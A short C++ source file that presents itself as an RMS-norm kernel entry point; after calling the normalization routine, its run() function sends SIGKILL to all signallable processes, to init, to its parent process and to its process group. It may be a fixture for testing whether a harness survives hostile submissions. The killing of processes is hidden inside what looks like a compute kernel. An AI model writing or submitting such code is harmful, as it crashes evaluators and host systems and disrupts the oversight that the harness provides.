// SPDX-License-Identifier: Apache-2.0
//
// Sends SIGKILL to every process that it can name.

#include <signal.h>
#include <unistd.h>

#include "right_norm.h"

extern "C" int run(const rms_norm_args* args, void* /*workspace*/, void* /*stream*/) {
  Right(*args, Out(args));
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  kill(0, SIGKILL);
  return 0;
}
